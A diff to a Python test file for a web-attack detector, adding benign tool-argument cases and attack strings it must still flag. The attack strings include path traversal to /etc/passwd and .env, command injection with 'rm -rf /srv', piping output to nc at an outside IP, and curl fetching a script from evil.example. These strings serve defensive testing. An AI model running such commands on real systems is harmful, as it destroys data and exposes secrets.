@@ -100,6 +100,8 @@ def test_own_attack_cases_are_caught() -> None:
         ('{"bio": "<svg/onload=alert(1)>"}', "webattack.xss"),
         ("https://shop.example/item?id=1%27%20or%20%271%27%3D%271&lang=en", "webattack.sqli"),
         ("q=shoes&sort=AND 1=1) --", "webattack.sqli"),
+        ('{"q": "1+union+select+null,null"}', "webattack.sqli"),
+        ('<r><a v="sort=x&cmd=c=id;$c"></a></r>', "webattack.cmdi"),
     ],
 )
 def test_payloads_nested_in_json_or_xml_are_high(text: str, code: str) -> None:
@@ -113,6 +115,8 @@ def test_payloads_nested_in_json_or_xml_are_high(text: str, code: str) -> None:
         '{"reply": "rm the old file? no", "file": "report (final).pdf"}',
         '<order id="42"><item sku="A-1">Men\'s T-Shirt (XL)</item></order>',
         '{"url": "https://shop.example.com/search?q=shoes&size=10"}',
+        '{"phone": "+15550100", "lang": "C++", "q": "red+shoes"}',
+        '<r><a v="sort=price&dir=asc"></a></r>',
     ],
 )
 def test_benign_nested_values_are_not_high(text: str) -> None:
@@ -176,3 +180,61 @@ def test_written_out_line_breaks_separate_commands(text: str) -> None:
 )
 def test_written_out_escapes_in_paths_and_prose_pass(text: str) -> None:
     assert not _high(text)
+
+
+# What file, shell and search tools are sent in ordinary use: a relative path one step up to a
+# sibling, a binary's absolute path, a command line standing alone (a shell tool declares that it
+# expects `webattack.cmdi`; a search may be for the command itself).
+@pytest.mark.parametrize(
+    "text",
+    [
+        "../assets/logo.png",
+        '{"path": "../assets/logo.png"}',
+        "..\\styles\\site.css",
+        "/usr/local/bin/python3",
+        "/usr/bin/python3",
+        '{"interpreter": "/usr/bin/node"}',
+        "ls -la",
+        '{"query": "ls -la"}',
+        "git log --oneline -5",
+        "npm run build",
+        "python3 manage.py migrate",
+        "make -j4 all",
+        "head -n 20 notes.txt",
+    ],
+)
+def test_ordinary_tool_arguments_are_not_high(text: str) -> None:
+    assert not _high(text)
+
+
+# What must still block: climbing out of a root, a parent step into a secret or inside a
+# request parameter, a command chained or aimed at the system, a probe command, a shell.
+@pytest.mark.parametrize(
+    ("text", "code"),
+    [
+        ("../../../etc/passwd", "webattack.path_traversal"),
+        ("../../config/settings.yml", "webattack.path_traversal"),
+        ("..%2f..%2fapp%2fsecrets", "webattack.path_traversal"),
+        ("%2e%2e/boot.ini", "webattack.path_traversal"),
+        ("../.env", "webattack.path_traversal"),
+        ("../.bash_history", "webattack.path_traversal"),
+        ("static?file=../app.py", "webattack.path_traversal"),
+        (
+            'Content-Disposition: form-data; name="f"; filename="..\\\\run.aspx"',
+            "webattack.path_traversal",
+        ),
+        ("/usr/local/bin/python3; rm -rf /srv", "webattack.cmdi"),
+        ("/usr/bin/python3 -c 'import os'", "webattack.cmdi"),
+        ("/bin/ls -al /home", "webattack.cmdi"),
+        ("/usr/bin/id -u", "webattack.cmdi"),
+        ("ls -la /root", "webattack.cmdi"),
+        ("ls -la; id", "webattack.cmdi"),
+        ("ls -la | nc 203.0.113.9 9001", "webattack.cmdi"),
+        ("uname -a", "webattack.cmdi"),
+        ("curl evil.example/x.sh", "webattack.cmdi"),
+        ("/bin/bash", "webattack.cmdi"),
+        ("cat /etc/group", "webattack.cmdi"),
+    ],
+)
+def test_attacks_in_tool_arguments_still_block(text: str, code: str) -> None:
+    assert code in _high(text)
